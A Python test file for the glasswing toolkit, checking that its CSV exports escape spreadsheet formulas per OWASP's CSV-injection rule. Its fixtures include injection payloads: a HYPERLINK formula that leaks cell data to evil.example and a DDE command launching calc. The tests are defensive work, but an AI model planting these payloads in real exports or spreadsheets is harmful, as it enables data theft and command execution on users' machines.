"""CSV exports cannot carry spreadsheet formulas (OWASP's CSV-injection rule): text cells and headers that
begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are written with a leading quote, in the
CLI's ``explain --out``, ``reweigh --out`` and ``counterfactual --out`` and the dashboard's weights and
review-queue CSVs; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
import skops.io
from sklearn.linear_model import LogisticRegression

from glasswing._csv import neutralise, safe_cell
from glasswing.cli import main
from glasswing.dashboard import _mitigation
from glasswing.ingest import ColumnRoles, Dataset

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    """Every cell that starts like a formula must be a plain number (read by float())."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # raises for anything but a number


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_quotes_formulas_and_leaves_numbers(attack):
    assert safe_cell(attack) == "'" + attack
    for number in ["-0.5", "+3", "-1e-05", "12", ".5"]:
        assert safe_cell(number) == number


def test_neutralise_keeps_numeric_columns_bit_for_bit():
    frame = pd.DataFrame({"x": [-0.5, -1e-300, 2.0], "n": [-1, 0, 1], "@g": ["-a", "-0.25", "b"]})
    out = neutralise(frame)
    assert out["x"].to_numpy().tobytes() == frame["x"].to_numpy().tobytes() and out["n"].dtype == np.int64
    assert list(out["'@g"]) == ["'-a", "-0.25", "b"]
    assert list(frame.columns) == ["x", "n", "@g"]  # the input is not changed


def test_explain_out_csv_has_no_formulas(tmp_path):
    rng = np.random.default_rng(0)
    features = ["=cmd|' /C calc'!A0", "@SUM(1)", "age"]
    frame = pd.DataFrame({features[0]: rng.normal(size=200), features[1]: rng.normal(size=200),
                          "age": rng.integers(18, 80, 200)})
    y = np.where(frame[features[0]] + 0.3 * rng.normal(size=200) > 0, FORMULA, "-ok")
    model = LogisticRegression().fit(frame, y)
    skops.io.dump(model, tmp_path / "m.skops")
    frame.to_csv(tmp_path / "d.csv", index=False)
    out = tmp_path / "attr.csv"
    assert main(["explain", "--model", str(tmp_path / "m.skops"), "--data", str(tmp_path / "d.csv"),
                 "--rows", "0:20", "--method", "shap", "--out", str(out)]) == 0
    rows = cells(out.read_text())
    assert_no_formula(rows)
    assert rows[0][1:4] == ["target", "'" + features[0], "'" + features[1]]
    assert {r[1] for r in rows[1:]} <= {"'" + FORMULA, "'-ok"} and len({r[1] for r in rows[1:]}) >= 1
    values = pd.read_csv(out, index_col="row")["'" + features[0]]
    assert values.dtype == float and (values < 0).any()  # negative numbers stay numbers


def test_reweigh_out_csv_is_numbers(tmp_path):
    frame = pd.DataFrame({"y": [0, 0, 1, 1] * 20, "sex": [FORMULA, "@x"] * 40})
    frame.to_csv(tmp_path / "d.csv", index=False)
    out = tmp_path / "w.csv"
    assert main(["reweigh", "--data", str(tmp_path / "d.csv"), "--target", "y", "--sensitive", "sex",
                 "--out", str(out)]) == 0
    rows = cells(out.read_text())
    assert rows[0] == ["weight"] and all(float(r[0]) > 0 for r in rows[1:])


def test_dashboard_weights_csv_has_no_formulas():
    frame = pd.DataFrame({"@sex": [FORMULA, "-f", "m", "+x"] * 5, "=target": ["=1", "-1.5", "ok", "@a"] * 5,
                          "age": range(20)})
    train = Dataset(frame, ColumnRoles(target="=target", sensitive=("@sex",), features=("age",)),
                    name="t.csv", sha256="t")
    weights = np.linspace(-0.5, 2, 20)  # a negative number must come back as a number
    result = SimpleNamespace(params={"sensitive": ["@sex"]}, weights=weights)
    text = _mitigation.weights_csv(result, train).decode()
    rows = cells(text)
    assert_no_formula(rows)
    assert rows[0] == ["'@sex", "'=target", "weight"]
    assert rows[1] == ["'" + FORMULA, "'=1", "-0.5"] and rows[2][1] == "-1.5"
    assert np.array_equal(pd.read_csv(io.StringIO(text), float_precision="round_trip")["weight"], weights)


def _formula_model(tmp_path):
    """A pipeline whose categorical input and class labels hold formulas, and its data as CSV."""
    from sklearn.compose import ColumnTransformer
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder

    rng = np.random.default_rng(1)
    n = 300
    frame = pd.DataFrame({"job": rng.choice([FORMULA, "-clerk", "@owner"], n),
                          "income": rng.normal(50, 15, n).round(1)})
    y = np.where(frame["income"] + 10 * (frame["job"] == "@owner") + rng.normal(0, 5, n) > 52, 1, 0)
    pipe = make_pipeline(ColumnTransformer([("job", OneHotEncoder(), ["job"])], remainder="passthrough"),
                         LogisticRegression(max_iter=1000)).fit(frame, y)
    skops.io.dump(pipe, tmp_path / "m.skops")
    frame.assign(y=y).to_csv(tmp_path / "d.csv", index=False)
    return frame, y


def test_counterfactual_out_csv_has_no_formulas(tmp_path):
    frame, y = _formula_model(tmp_path)
    refused = int(np.flatnonzero(y == 0)[0])
    out = tmp_path / "cf.csv"
    code = main(["counterfactual", "--model", str(tmp_path / "m.skops"), "--data", str(tmp_path / "d.csv"),
                 "--rows", str(refused), "--count", "3", "--out", str(out)])
    assert code == 0
    rows = cells(out.read_text())
    assert_no_formula(rows)
    jobs = {r[rows[0].index("job")] for r in rows[1:]}
    assert jobs - {""} <= {"'" + FORMULA, "'-clerk", "'@owner"} and jobs - {""}  # quoted (blank: unchanged)


def test_dashboard_review_queue_csv_has_no_formulas():
    from glasswing import audits
    from glasswing.dashboard import _decisions

    rng = np.random.default_rng(2)
    n = 200
    frame = pd.DataFrame({"@group": rng.choice([FORMULA, "-a", "+b"], n), "y": rng.integers(0, 2, n),
                          "note": rng.choice(["=1+1", "ok"], n), "score": rng.random(n)})
    test = Dataset(frame, ColumnRoles(target="y", score="score", sensitive=("@group",)), name="t.csv",
                   sha256="t")
    band = audits.review_band(frame["y"], frame["score"], frame[["@group"]], threshold=0.5, width=0.2)
    text = _decisions.queue_csv(band, test, frame["score"]).decode()
    rows = cells(text)
    assert_no_formula(rows)
    assert "'@group" in rows[0] and len(rows) > 1
    reviewed = (frame["score"] - 0.5).abs() <= 0.1  # the band, width 0.2 around 0.5: each such row queued
    assert len(rows) - 1 == int(reviewed.sum())
    assert {r[rows[0].index("note")] for r in rows[1:]} <= {"'=1+1", "ok"}
